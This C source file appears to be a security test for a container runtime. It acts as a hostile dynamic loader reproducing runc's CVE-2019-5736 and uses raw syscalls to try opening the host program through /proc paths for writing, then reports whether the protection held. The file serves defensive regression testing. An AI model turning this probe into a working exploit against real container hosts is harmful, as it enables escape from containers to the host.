// An attacker's dynamic loader: an image has it where the zygote's own program names
// its loader, and so runs this in a process that executes that program (runc's
// CVE-2019-5736). It says what it sees of the program, tries to open it for writing,
// and goes on as `attack held PATH READ`: two descriptors of it, by its path alone
// and open for reading, in a process that does not execute it any more.
//
// Without a C library, which could not start in another program's place.
#define _GNU_SOURCE
#include <fcntl.h>
#include <sys/syscall.h>

static long call(long number, long a, long b, long c, long d) {
#if defined __x86_64__
  long result;
  register long fourth __asm__("r10") = d;
  __asm__ volatile("syscall"
                   : "=a"(result)
                   : "a"(number), "D"(a), "S"(b), "d"(c), "r"(fourth)
                   : "rcx", "r11", "memory");
  return result;
#elif defined __aarch64__
  register long which __asm__("x8") = number;
  register long first __asm__("x0") = a;
  register long second __asm__("x1") = b;
  register long third __asm__("x2") = c;
  register long fourth __asm__("x3") = d;
  __asm__ volatile("svc 0" : "+r"(first) : "r"(which), "r"(second), "r"(third), "r"(fourth) : "memory");
  return first;
#endif
}

static long open_at(const char *path, int flags) { return call(SYS_openat, AT_FDCWD, (long)path, flags, 0); }

static void say(const char *text) {
  long length = 0;
  while (text[length]) length++;
  call(SYS_write, 1, (long)text, length, 0);
}

static char digit(long file) { return '0' + file; }

__attribute__((noreturn, used)) static void run(void) {
  static char content[4096];
  long length = call(SYS_readlinkat, AT_FDCWD, (long)"/proc/self/exe", (long)content, sizeof content - 1);
  say("program ");
  if (length > 0) call(SYS_write, 1, (long)content, length, 0);
  long maps = open_at("/proc/self/maps", O_RDONLY);
  say("\nmaps ");
  while ((length = call(SYS_read, maps, (long)content, sizeof content, 0)) > 0)
    call(SYS_write, 1, (long)content, length, 0);
  call(SYS_close, maps, 0, 0, 0);
  const char *const paths[] = {"/proc/self/exe", "/proc/thread-self/exe", "/proc/self/task/../exe", "/proc/1/exe"};
  const int flags[] = {O_WRONLY, O_RDWR, O_WRONLY | O_TRUNC};
  int opened = 0;
  for (int path = 0; path < 4; path++)
    for (int flag = 0; flag < 3; flag++) opened |= open_at(paths[path], flags[flag]) >= 0;
  say(opened ? "open-own-program-to-write BROKEN\n" : "open-own-program-to-write held\n");
  static char by_path[2], to_read[2];
  by_path[0] = digit(open_at("/proc/self/exe", O_PATH));
  to_read[0] = digit(open_at("/proc/self/exe", O_RDONLY));
  const char *const arguments[] = {"attack", "held", by_path, to_read, 0};
  call(SYS_execve, (long)"/bin/attack", (long)arguments, (long)(arguments + 4), 0);
  call(SYS_exit_group, 1, 0, 0, 0);
  __builtin_unreachable();
}

#if defined __x86_64__
__asm__(".globl _start\n_start: and $-16, %rsp\ncall run\n");
#elif defined __aarch64__
__asm__(".globl _start\n_start: bl run\n");
#endif
